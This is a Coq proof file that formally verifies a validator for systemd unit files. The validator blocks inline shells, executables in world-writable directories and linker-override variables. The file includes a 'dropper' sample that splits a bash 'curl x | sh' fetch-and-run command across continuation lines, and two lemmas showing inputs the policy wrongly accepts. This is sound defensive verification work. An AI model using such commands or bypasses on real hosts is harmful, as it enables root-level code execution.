(* ===== verification/UnitContent.v ===== *)
(** * Unit-file content policy ([src/sys/service/unitcontent.go])

    The gate a systemd unit passes before it is written as root: continuation
    lines are joined, then each directive is checked.  All of it is pure. *)
From S2P Require Import Prelude Paths.

Module UnitContent.
Import Paths.

Definition BACKSLASH : ascii := "\"%char.
Definition SPACE : ascii := " "%char.

Definition execDirectives : list gostring :=
  [str "execstart"; str "execstartpre"; str "execstartpost"; str "execstop";
   str "execstoppost"; str "execreload"; str "execcondition"].
Definition shellInterpreters : list gostring :=
  [str "sh"; str "bash"; str "dash"; str "zsh"; str "ksh"; str "ash"; str "busybox"].
Definition untrustedExecPrefixes : list gostring :=
  [str "/tmp/"; str "/var/tmp/"; str "/dev/shm/"].
Definition dangerousEnvVars : list gostring :=
  [str "LD_PRELOAD"; str "LD_LIBRARY_PATH"; str "LD_AUDIT"].

(** The reasons wrapped in [ErrUnsafeUnitContent]. *)
Inductive unsafe :=
| ShellsOut (key base : gostring)
| WorldWritableExec (key exe : gostring)
| WorldWritableEnvFile (path : gostring)
| LinkerOverride (name : gostring).

Definition isExecDirective (key : gostring) : bool := bool_decide (key ∈ execDirectives).

Fixpoint leading_backslashes (s : gostring) : nat :=
  match s with
  | c :: s' => if bool_decide (c = BACKSLASH) then S (leading_backslashes s') else 0
  | [] => 0
  end.
Definition trailingBackslashes (s : gostring) : nat := leading_backslashes (rev s).

(** The loop of [joinContinuationLines]; [pending] is [Some] while continuing. *)
Fixpoint join_lines (lines : list gostring) (pending : option gostring) : list gostring :=
  match lines with
  | [] => match pending with Some p => [p] | None => [] end
  | l :: rest =>
      let trimmed := trim_right_set l [SPACE; TAB] in
      let before := match pending with Some p => p | None => [] end in
      if Nat.odd (trailingBackslashes trimmed) then
        join_lines rest (Some (before ++ trim_suffix trimmed [BACKSLASH] ++ [SPACE]))
      else match pending with
           | Some p => (p ++ l) :: join_lines rest None
           | None => l :: join_lines rest None
           end
  end.
Definition joinContinuationLines (content : gostring) : list gostring :=
  join_lines (split_byte content NL) None.

Definition isShellCFlag (arg : gostring) : bool :=
  if negb (has_prefix arg (str "-")) || has_prefix arg (str "--") then false
  else contains_any (drop 1 arg) ["c"%char].

Definition untrusted (p : gostring) : bool := existsb (has_prefix p) untrustedExecPrefixes.

Definition validateExecLine (key value : gostring) : result unsafe unit :=
  let cmd := trim_space (trim_left_set value ["-"%char; "@"%char; "+"%char; "!"%char; ":"%char]) in
  match fields cmd with
  | [] => Ok tt
  | exe :: args =>
      let base := Base exe in
      if bool_decide (base ∈ shellInterpreters) && existsb isShellCFlag args
      then Err (ShellsOut key base)
      else if untrusted (Clean exe) then Err (WorldWritableExec key exe)
      else Ok tt
  end.

(** The name a VAR=VAL pair sets. *)
Definition env_pair_name (pr : gostring) : gostring :=
  let name := match index_byte pr "="%char with Some eq => take eq pr | None => pr end in
  trim_set (trim_space name) ["034"%char; "'"%char].

Fixpoint check_pairs (pairs : list gostring) : result unsafe unit :=
  match pairs with
  | [] => Ok tt
  | pr :: rest =>
      let name := env_pair_name pr in
      if bool_decide (to_upper name ∈ dangerousEnvVars) then Err (LinkerOverride name)
      else check_pairs rest
  end.
Definition validateEnvLine (value : gostring) : result unsafe unit := check_pairs (fields value).

Definition env_file (value : gostring) : gostring :=
  Clean (trim_space (trim_prefix value (str "-"))).

(** The body of the loop for one logical line. *)
Definition check_line (raw : gostring) : result unsafe unit :=
  let line := trim_space raw in
  if bool_decide (line = []) || has_prefix line (str "#") || has_prefix line (str ";") then Ok tt
  else match index_byte line "="%char with
       | None | Some 0 => Ok tt
       | Some eq =>
           let key := to_lower (trim_space (take eq line)) in
           let value := trim_space (drop (S eq) line) in
           if isExecDirective key then validateExecLine key value
           else if bool_decide (key = str "environmentfile") then
             if untrusted (env_file value) then Err (WorldWritableEnvFile (env_file value))
             else Ok tt
           else if bool_decide (key = str "environment") then validateEnvLine value
           else Ok tt
       end.

Fixpoint check_lines (lines : list gostring) : result unsafe unit :=
  match lines with
  | [] => Ok tt
  | l :: rest => let? _ := check_line l in check_lines rest
  end.

Definition validateUnitContent (content : gostring) : result unsafe unit :=
  check_lines (joinContinuationLines content).
Definition ValidateUnitContent (content : gostring) : result unsafe unit :=
  validateUnitContent content.

(** ** The policy, stated on logical lines *)

(** KEY=VALUE of a line that is neither blank nor a comment. *)
Definition directive (raw : gostring) : option (gostring * gostring) :=
  let line := trim_space raw in
  if bool_decide (line = []) || has_prefix line (str "#") || has_prefix line (str ";") then None
  else match cut line "="%char with
       | None | Some ([], _) => None
       | Some (k, v) => Some (to_lower (trim_space k), trim_space v)
       end.

(** The keys that start a program, the shells, and where nothing may be run from. *)
Definition exec_keys : list gostring :=
  [str "execstart"; str "execstartpre"; str "execstartpost"; str "execstop"; str "execstoppost"; str "execreload"; str "execcondition"].
Definition shells : list gostring := [str "sh"; str "bash"; str "dash"; str "zsh"; str "ksh"; str "ash"; str "busybox"].
Definition writable_by_all : list gostring := [str "/tmp/"; str "/var/tmp/"; str "/dev/shm/"].

(** The command words of an Exec value, without systemd's special prefixes. *)
Definition exec_words (value : gostring) : list gostring :=
  fields (trim_space (trim_left_set value ["-"%char; "@"%char; "+"%char; "!"%char; ":"%char])).

Definition world_writable (p : gostring) : Prop :=
  exists dir, dir ∈ writable_by_all /\ exists rest, Clean p = dir ++ rest.

Definition runs_inline_shell (exe : gostring) (args : list gostring) : Prop :=
  Base exe ∈ shells /\
  exists arg cluster, arg ∈ args /\ arg = "-"%char :: cluster /\ "c"%char ∈ cluster /\
                      forall long, cluster <> "-"%char :: long.

(** A word of an Environment value that sets one of the linker's variables, in any case and
    with any quotes around the pair or around the name. *)
Definition QUOTES : list ascii := ["034"%char; "'"%char].
Definition sets_override (word : gostring) : Prop :=
  exists opening name closing rest, word = opening ++ name ++ closing ++ rest /\
    (forall c, c ∈ opening ++ closing -> c ∈ QUOTES) /\ (forall c, c ∈ name -> (c ∉ QUOTES) /\ c <> "="%char) /\
    (rest = [] \/ exists v, rest = "="%char :: v) /\
    to_upper name ∈ [str "LD_PRELOAD"; str "LD_LIBRARY_PATH"; str "LD_AUDIT"].

(** What one directive may not do. *)
Definition violates (key value : gostring) : Prop :=
  (key ∈ exec_keys /\ exists exe args, exec_words value = exe :: args /\
     (runs_inline_shell exe args \/ world_writable exe)) \/
  (key = str "environmentfile" /\ world_writable (trim_space (trim_prefix value (str "-")))) \/
  (key = str "environment" /\ exists word, word ∈ fields value /\ sets_override word).

Definition line_ok (raw : gostring) : Prop :=
  forall key value, directive raw = Some (key, value) -> ~ violates key value.

(** Exec keys and the two environment keys are distinct. *)
Lemma exec_not_env key : key ∈ execDirectives -> key <> str "environmentfile" /\ key <> str "environment".
Proof.
  intros H. split; intros ->; revert H; by apply (bool_decide_unpack _).
Qed.

Lemma untrusted_spec p : untrusted (Clean p) = true <-> world_writable p.
Proof.
  unfold untrusted, world_writable. rewrite existsb_exists.
  split; intros (dir & Hin & H); exists dir; rewrite list_elem_of_In in *; (split; [done|]);
    by apply has_prefix_spec.
Qed.

Lemma isShellCFlag_spec arg :
  isShellCFlag arg = true <->
  exists cluster, arg = "-"%char :: cluster /\ "c"%char ∈ cluster /\ forall long, cluster <> "-"%char :: long.
Proof.
  unfold isShellCFlag. destruct arg as [|a cluster]; [naive_solver|]. cbn [str has_prefix drop].
  change (has_prefix (a :: cluster) (str "-")) with (bool_decide ("-"%char = a) && true).
  change (has_prefix (a :: cluster) (str "--"))
    with (bool_decide ("-"%char = a) && has_prefix cluster (str "-")).
  rewrite andb_true_r. case_bool_decide as Ha; simpl; [subst|naive_solver].
  destruct cluster as [|b cl]; simpl; [split; [done|]; intros (? & [= <-] & Hc & _); by apply not_elem_of_nil in Hc|].
  rewrite andb_true_r. case_bool_decide as Hb; simpl.
  - subst. split; [done|]. intros (? & [= <-] & _ & Hl). by destruct (Hl cl).
  - assert (bool_decide (b ∈ ["c"%char]) || existsb (fun c => bool_decide (c ∈ ["c"%char])) cl = true
            <-> "c"%char ∈ b :: cl) as ->.
    { change (bool_decide (b ∈ ["c"%char]) || existsb (fun c => bool_decide (c ∈ ["c"%char])) cl)
        with (existsb (fun c => bool_decide (c ∈ ["c"%char])) (b :: cl)).
      rewrite existsb_exists. setoid_rewrite bool_decide_eq_true. setoid_rewrite list_elem_of_singleton.
      setoid_rewrite <-list_elem_of_In. naive_solver. }
    split; [intros Hc; exists (b :: cl); split_and!; [done|done|by intros long [= -> _]]|].
    by intros (? & [= <-] & ? & _).
Qed.

Lemma validateExecLine_ok key value :
  validateExecLine key value = Ok tt <->
  ~ exists exe args, exec_words value = exe :: args /\ (runs_inline_shell exe args \/ world_writable exe).
Proof.
  unfold validateExecLine, exec_words. destruct (fields _) as [|exe args].
  { split; [|done]. by intros _ (? & ? & ? & _). }
  pose proof (untrusted_spec exe) as Hu.
  assert (bool_decide (Base exe ∈ shellInterpreters) && existsb isShellCFlag args = true
          <-> runs_inline_shell exe args) as Hs.
  { unfold runs_inline_shell. rewrite andb_true_iff, bool_decide_eq_true, existsb_exists.
    setoid_rewrite isShellCFlag_spec. setoid_rewrite <-list_elem_of_In. naive_solver. }
  assert ((exists e a, exe :: args = e :: a /\ (runs_inline_shell e a \/ world_writable e))
          <-> (runs_inline_shell exe args \/ world_writable exe)) as ->
    by (split; [by intros (? & ? & [= <- <-] & ?)|by exists exe, args]).
  rewrite <-Hs, <-Hu.
  destruct (_ && _); simpl; [split; [done|tauto]|].
  destruct (untrusted (Clean exe)); split; try done; intros; naive_solver.
Qed.

(** *** The name a word sets *)

(** No rune of white space occurs. *)
Definition nospace (w : gostring) : Prop := forall e a b, e ∈ space_encodings -> w <> a ++ e ++ b.
Lemma strip_one_some encs s t : strip_one encs s = Some t -> exists e, e ∈ encs /\ has_prefix s e = true.
Proof.
  induction encs as [|e encs IH]; cbn [strip_one]; [done|]. destruct (has_prefix s e) eqn:E; [intros _; exists e; split; [left|done]|].
  intros H. destruct (IH H) as (e' & ? & ?). exists e'. split; [by right|done].
Qed.
Lemma strip_one_enc encs e s : e ∈ encs -> strip_one encs (e ++ s) <> None.
Proof.
  induction encs as [|e' encs IH]; [by intros ?%elem_of_nil|]. cbn [strip_one]. intros [->|H]%elem_of_cons; [by rewrite has_prefix_app|].
  destruct (has_prefix _ e'); [done|by apply IH].
Qed.
Lemma fields_aux_nospace fuel s cur :
  (forall a b, cur = a ++ b -> b <> [] -> strip_one space_encodings (b ++ s) = None) -> Forall nospace (fields_aux fuel s cur).
Proof.
  assert (Hflush : forall s cur, (forall a b, cur = a ++ b -> b <> [] -> strip_one space_encodings (b ++ s) = None) -> Forall nospace (flush cur)).
  { clear. intros s cur H. destruct cur as [|c cur]; [constructor|]. constructor; [|constructor]. intros e a b He Hcur.
    apply (strip_one_enc _ e (b ++ s) He). rewrite app_assoc. apply (H a); [by rewrite Hcur|].
    assert (Hne : forallb (fun e => negb (bool_decide (e = []))) space_encodings = true) by by_eval.
    rewrite forallb_forall in Hne. specialize (Hne e (proj1 (list_elem_of_In _ _) He)). go_bool. by destruct e. }
  revert s cur. induction fuel as [|fuel IH]; intros s cur H; cbn [fields_aux]; [by eapply Hflush|].
  destruct s as [|c s]; [by eapply Hflush|]. destruct (strip_one space_encodings (c :: s)) as [rest|] eqn:E.
  - apply list.Forall_app. split; [by eapply Hflush|]. apply IH. intros a b Hn Hb. symmetry in Hn. apply app_nil in Hn as [_ ->]. done.
  - apply IH. intros a b Hc Hb. destruct b as [|d b _] using rev_ind; [done|]. rewrite app_assoc in Hc. apply app_inj_tail in Hc as [Hc <-].
    rewrite <- app_assoc. cbn [app]. destruct b as [|x b]; [exact E|]. by apply (H a).
Qed.
Lemma fields_nospace s w : w ∈ fields s -> nospace w.
Proof.
  intros Hw. assert (H : Forall nospace (fields s)) by (apply fields_aux_nospace; intros a b Hn Hb; symmetry in Hn; by apply app_nil in Hn as [_ ->]).
  rewrite list.Forall_forall in H. by apply H.
Qed.
Lemma nospace_prefix a b : nospace (a ++ b) -> nospace a.
Proof. intros H e x y He ->. apply (H e x (y ++ b) He). by rewrite <- !app_assoc. Qed.
Lemma strip_all_none fuel encs s : strip_one encs s = None -> strip_all fuel encs s = s.
Proof. intros H. destruct fuel; [done|]. cbn [strip_all]. by rewrite H. Qed.
Lemma nospace_trim w : nospace w -> trim_space w = w.
Proof.
  intros H. unfold trim_space, trim_left_space. rewrite strip_all_none.
  - unfold trim_right_space. rewrite strip_all_none; [apply rev_involutive|].
    destruct (strip_one _ (rev w)) as [t|] eqn:E; [|done]. apply strip_one_some in E as (e & He & Hp). apply has_prefix_spec in Hp as [u Hu].
    apply list_elem_of_fmap in He as (e' & -> & He). apply (f_equal (@rev ascii)) in Hu. rewrite rev_involutive, rev_app_distr, rev_involutive in Hu.
    by destruct (H e' (rev u) [] He); rewrite app_nil_r.
  - destruct (strip_one _ w) as [t|] eqn:E; [|done]. apply strip_one_some in E as (e & He & Hp). apply has_prefix_spec in Hp as [u Hu]. by destruct (H e [] u He).
Qed.

(** Upper case keeps the quotes. *)
Lemma to_upper_keeps c s : c ∈ QUOTES -> c ∈ s -> c ∈ to_upper s.
Proof.
  intros Hq. assert (Hup : upper_byte c = c /\ c <> "196"%char /\ c <> "177"%char /\ c <> "197"%char /\ c <> "191"%char).
  { revert Hq. unfold QUOTES. rewrite !elem_of_cons, elem_of_nil. intros [->|[->|[]]]; by split_and!. }
  destruct Hup as (Hup & N1 & N2 & N3 & N4). remember (length s) as n eqn:Hn. revert s Hn.
  induction (lt_wf n) as [n _ IH]. intros s -> Hin. destruct s as [|a [|b s]]; [by apply elem_of_nil in Hin| |].
  - apply list_elem_of_singleton in Hin as <-. cbn [to_upper]. rewrite Hup. left.
  - cbn [to_upper]. change (bytes [196; 177]) with ["196"%char; "177"%char]. change (bytes [197; 191]) with ["197"%char; "191"%char].
    case_bool_decide as E1; [|case_bool_decide as E2].
    + injection E1 as -> ->. right. apply (IH (length s)); [cbn; lia|done|]. apply elem_of_cons in Hin as [?|Hin]; [done|]. by apply elem_of_cons in Hin as [?|Hin].
    + injection E2 as -> ->. right. apply (IH (length s)); [cbn; lia|done|]. apply elem_of_cons in Hin as [?|Hin]; [done|]. by apply elem_of_cons in Hin as [?|Hin].
    + apply elem_of_cons in Hin as [->|Hin]; [rewrite Hup; left|]. right. exact (IH (length (b :: s)) ltac:(cbn; lia) (b :: s) eq_refl Hin).
Qed.

(** Trimming a set of bytes on both sides. *)
Lemma trim_left_set_spec s set : exists l, s = l ++ trim_left_set s set /\ forall c, c ∈ l -> c ∈ set.
Proof.
  induction s as [|c s (l & Hs & Hl)]; [exists []; split; [done|intros ? []%elem_of_nil]|]. cbn [trim_left_set]. case_bool_decide as E.
  - exists (c :: l). split; [cbn; by f_equal|]. intros d [->|Hd]%elem_of_cons; auto.
  - exists []. split; [done|]. by intros ? ?%elem_of_nil.
Qed.
Lemma trim_set_spec s set : exists l r, s = l ++ trim_set s set ++ r /\ forall c, c ∈ l ++ r -> c ∈ set.
Proof.
  unfold trim_set, trim_right_set. destruct (trim_left_set_spec s set) as (l & Hs & Hl).
  destruct (trim_left_set_spec (rev (trim_left_set s set)) set) as (r & Hr & Hr'). exists l, (rev r). split.
  - rewrite <- rev_app_distr, <- Hr, rev_involutive. exact Hs.
  - intros c [Hc|Hc]%elem_of_app; [by apply Hl|]. apply Hr'. rewrite list_elem_of_In in *. by apply in_rev.
Qed.
Lemma trim_left_set_drop l s set : (forall c, c ∈ l -> c ∈ set) -> match s with [] => True | c :: _ => c ∉ set end -> trim_left_set (l ++ s) set = s.
Proof.
  intros Hl Hs. induction l as [|c l IH]; cbn [app trim_left_set].
  - destruct s as [|c s]; [done|]. cbn [trim_left_set]. by rewrite bool_decide_false.
  - rewrite bool_decide_true by (apply Hl; left). apply IH. intros d Hd. apply Hl. by right.
Qed.
Lemma trim_set_drop l n r set : (forall c, c ∈ l ++ r -> c ∈ set) -> (forall c, c ∈ n -> c ∉ set) -> n <> [] -> trim_set (l ++ n ++ r) set = n.
Proof.
  intros Hlr Hn Hne. unfold trim_set. rewrite trim_left_set_drop.
  - unfold trim_right_set. rewrite rev_app_distr, trim_left_set_drop; [apply rev_involutive| |].
    + intros c Hc. apply Hlr, elem_of_app. right. rewrite list_elem_of_In in *. by apply in_rev.
    + destruct (rev n) as [|c m] eqn:E; [done|]. apply Hn. apply list_elem_of_In, in_rev. rewrite E. by left.
  - intros c Hc. apply Hlr, elem_of_app. by left.
  - destruct n as [|c n]; [done|]. cbn. apply Hn. left.
Qed.

(** What precedes the first equals sign. *)
Definition before_eq (w : gostring) : gostring := match index_byte w "="%char with Some eq => take eq w | None => w end.
Lemma before_equals w :
  exists rest, w = before_eq w ++ rest /\ ("="%char ∉ before_eq w) /\ (rest = [] \/ exists v, rest = "="%char :: v).
Proof.
  unfold before_eq. destruct (index_byte w "="%char) as [i|] eqn:E.
  - apply index_byte_Some in E as [Hw Hn]. eexists. split_and!; [exact Hw|done|right; by eexists].
  - apply index_byte_None in E. exists []. rewrite app_nil_r. auto.
Qed.
Lemma before_equals_unique n rest : "="%char ∉ n -> (rest = [] \/ exists v, rest = "="%char :: v) -> before_eq (n ++ rest) = n.
Proof.
  unfold before_eq. intros Hn [->|[v ->]].
  - rewrite app_nil_r. by rewrite (proj2 (index_byte_None n "="%char)).
  - rewrite index_byte_app by done. apply take_app_length.
Qed.

Lemma override_spec w : nospace w -> (to_upper (env_pair_name w) ∈ dangerousEnvVars) <-> sets_override w.
Proof.
  intros Hw. unfold env_pair_name. fold (before_eq w).
  destruct (before_equals w) as (rest & Hrest & Heq & Hr). set (n0 := before_eq w) in *.
  assert (Ht : trim_space n0 = n0) by (apply nospace_trim, (nospace_prefix n0 rest); by rewrite <- Hrest). rewrite Ht. split.
  - intros Hd. destruct (trim_set_spec n0 QUOTES) as (l & r & Hn0 & Hlr). set (m := trim_set n0 QUOTES) in *. exists l, m, r, rest.
    split_and!; [by rewrite Hrest at 1; rewrite Hn0 at 1; rewrite <- !app_assoc|done| |done|exact Hd]. intros c Hc. split.
    + intros Hq. pose proof (to_upper_keeps c m Hq Hc) as Hu. revert Hd Hu Hq. fold QUOTES in m. change (trim_set n0 ["034"%char; "'"%char]) with m.
      generalize (to_upper m) as u. intros u Hd Hu Hq. unfold dangerousEnvVars in Hd. rewrite !elem_of_cons in Hd.
      assert (Hnone : forall d, d ∈ dangerousEnvVars -> forallb (fun c => negb (bool_decide (c ∈ QUOTES))) d = true).
      { intros d. unfold dangerousEnvVars. rewrite !elem_of_cons, elem_of_nil. intros [->|[->|[->|[]]]]; by_eval. }
      assert (Hd' : u ∈ dangerousEnvVars) by (unfold dangerousEnvVars; by rewrite !elem_of_cons). apply Hnone in Hd'. rewrite forallb_forall in Hd'.
      specialize (Hd' c (proj1 (list_elem_of_In _ _) Hu)). by rewrite bool_decide_true in Hd'.
    + intros ->. apply Heq. rewrite Hn0. rewrite !elem_of_app. auto.
  - intros (l & name & r & rest' & Hw' & Hlr & Hname & Hr' & Hd).
    assert (Hn : "="%char ∉ l ++ name ++ r).
    { rewrite !elem_of_app. intros [H|[H|H]]; [|by apply Hname in H as [_ ?]|];
        assert (Hq : "="%char ∈ QUOTES) by (apply Hlr, elem_of_app; auto); revert Hq; by apply (bool_decide_unpack _). }
    pose proof (before_equals_unique (l ++ name ++ r) rest' Hn Hr') as Hu. rewrite <- !app_assoc, <- Hw' in Hu. fold n0 in Hu. rewrite Hu.
    rewrite trim_set_drop; [exact Hd|exact Hlr|intros c Hc; by apply Hname|]. intros ->. revert Hd. by apply (bool_decide_unpack _).
Qed.

Lemma check_pairs_ok pairs :
  Forall nospace pairs -> check_pairs pairs = Ok tt <-> ~ exists word, word ∈ pairs /\ sets_override word.
Proof.
  intros Hns. induction Hns as [|p pairs Hp Hns IH]; cbn [check_pairs].
  - split; [|done]. intros _ (pr & H & _). by apply elem_of_nil in H.
  - pose proof (override_spec p Hp) as Ho. case_bool_decide as Hd.
    + split; [done|]. intros H. destruct H. exists p. split; [left|by apply Ho].
    + rewrite IH. split; intros Hn (pr & Hin & Hs); apply Hn.
      * apply elem_of_cons in Hin as [->|Hin]; [by apply Ho in Hs|eauto].
      * exists pr. by split; [right|].
Qed.

(** One line passes exactly when it is not a directive the policy forbids. *)
Lemma check_line_ok raw : check_line raw = Ok tt <-> line_ok raw.
Proof.
  unfold check_line, line_ok, directive, cut. destruct (_ || _ || _); [naive_solver|].
  destruct (index_byte (trim_space raw) "="%char) as [[|eq]|] eqn:Heq; simpl; [naive_solver| |naive_solver].
  destruct (trim_space raw) as [|c line]; [done|]. simpl.
  set (key := to_lower _). set (value := trim_space _).
  transitivity (~ violates key value); [|naive_solver]. unfold violates.
  pose proof (validateExecLine_ok key value) as He. pose proof (exec_not_env key) as Hd.
  unfold isExecDirective. case_bool_decide as Hk; [naive_solver|].
  case_bool_decide as Hf.
  - unfold env_file. pose proof (untrusted_spec (trim_space (trim_prefix value (str "-")))) as Hu.
    assert (key <> str "environment") by by rewrite Hf.
    destruct (untrusted _); naive_solver.
  - case_bool_decide as Hen; [|naive_solver]. unfold validateEnvLine.
    rewrite check_pairs_ok by (apply list.Forall_forall; intros w; apply fields_nospace). naive_solver.
Qed.

Lemma check_lines_ok lines : check_lines lines = Ok tt <-> Forall line_ok lines.
Proof.
  induction lines as [|l lines IH]; simpl; [by split|].
  rewrite list.Forall_cons, <-IH, <-check_line_ok, result_bind_ok.
  split; [intros ([] & ? & ?); done|intros [? ?]; by exists tt].
Qed.

(** ** Continuation lines *)

(** A logical line as it may be laid out: the pieces that end in a backslash,
    and the last one. *)
Definition layout : Type := list gostring * gostring.
Definition raw_lines (l : layout) : list gostring :=
  ((fun p => p ++ [BACKSLASH]) <$> (fst l)) ++ [snd l].
Definition logical (l : layout) : gostring := concat ((fun p => p ++ [SPACE]) <$> (fst l)) ++ snd l.
Definition render (ls : list layout) : gostring := join (concat (raw_lines <$> ls)) [NL].

(** A line that systemd leaves out, also inside a continuation. *)
Definition comment (s : gostring) : bool := has_prefix (trim_space s) (str "#") || has_prefix (trim_space s) (str ";").

(** The pieces hold no newline, no piece ends in a backslash that would escape or extend the
    continuation, and no piece that continues a line is a comment. *)
Definition layout_ok (l : layout) : Prop :=
  Forall (fun p => (NL ∉ p) /\ Nat.odd (trailingBackslashes p) = false) (fst l) /\ (NL ∉ snd l) /\
  Nat.odd (trailingBackslashes (trim_right_set l.2 [SPACE; TAB])) = false /\
  Forall (fun p => comment p = false) (tail (fst l ++ [snd l])).

Lemma trim_right_snoc s c set : c ∉ set -> trim_right_set (s ++ [c]) set = s ++ [c].
Proof.
  intros H. unfold trim_right_set. rewrite rev_unit. simpl. rewrite bool_decide_false by done.
  by rewrite <-rev_unit, rev_involutive.
Qed.

Lemma trailing_snoc s : trailingBackslashes (s ++ [BACKSLASH]) = S (trailingBackslashes s).
Proof. unfold trailingBackslashes. rewrite rev_unit. done. Qed.

Lemma trim_suffix_snoc s c : trim_suffix (s ++ [c]) [c] = s.
Proof.
  unfold trim_suffix, has_suffix. rewrite rev_unit. simpl. rewrite bool_decide_true by done. simpl.
  rewrite length_app. simpl. rewrite Nat.add_sub. apply take_app_length.
Qed.

Lemma join_lines_layout l rest pending :
  layout_ok l ->
  join_lines (raw_lines l ++ rest) pending =
  (match pending with Some p => p | None => [] end ++ logical l) :: join_lines rest None.
Proof.
  destruct l as [ps last]. intros (Hps & _ & Hl & _). cbn [fst snd] in *.
  unfold raw_lines, logical. cbn [fst snd].
  revert pending; induction Hps as [|p ps [_ Hp] Hps IH]; intros pending; simpl.
  - rewrite Hl. by destruct pending.
  - rewrite trim_right_snoc by (by apply (bool_decide_unpack _)).
    rewrite trailing_snoc, Nat.odd_succ, <-Nat.negb_odd, Hp. simpl.
    rewrite trim_suffix_snoc, IH. by rewrite <-!app_assoc.
Qed.

Lemma joinContinuationLines_render ls :
  ls <> [] -> Forall layout_ok ls -> joinContinuationLines (render ls) = logical <$> ls.
Proof.
  intros Hne H. unfold joinContinuationLines, render. rewrite split_join.
  - clear Hne. induction H as [|l ls Hl H IH]; [done|]. rewrite !fmap_cons. cbn [concat].
    rewrite join_lines_layout by done. by rewrite IH.
  - destruct ls as [|[ps last] ls]; [done|]. simpl. unfold raw_lines. simpl. by destruct ps.
  - clear Hne. induction H as [|[ps last] ls (Hps & Hlast & _ & _) H IH]; [constructor|]. rewrite fmap_cons. cbn [concat].
    apply list.Forall_app. split; [|done]. unfold raw_lines. simpl. apply list.Forall_app.
    split; [|by constructor]. apply list.Forall_fmap. eapply list.Forall_impl; [done|].
    intros p [Hp _]. simpl. apply not_elem_of_app. split; [done|]. by apply (bool_decide_unpack _).
Qed.


Definition dropper : list layout :=
  [([], str "[Service]"); ([str "ExecStart=-/usr/bin/bash "; str "  -x"], str "-ec 'curl x | sh'")].


(** ** What the policy does not see *)

(** A quoted executable is not recognised: systemd unquotes it, the policy
    compares the quotes with the name. *)
Lemma quoted_shell_accepted :
  ValidateUnitContent (str "ExecStart=" ++ ["034"%char] ++ str "/bin/sh" ++ ["034"%char]
                       ++ str " -c 'id'") = Ok tt.
Proof. by_eval. Qed.

(** A comment inside a continuation ends it here; systemd skips the comment and
    goes on with the directive. *)
Lemma comment_in_continuation_accepted :
  ValidateUnitContent (join [str "ExecStart=/bin/sh \"; str "# note"; str "-c 'id'"] [NL]) = Ok tt.
Proof. by_eval. Qed.

End UnitContent.
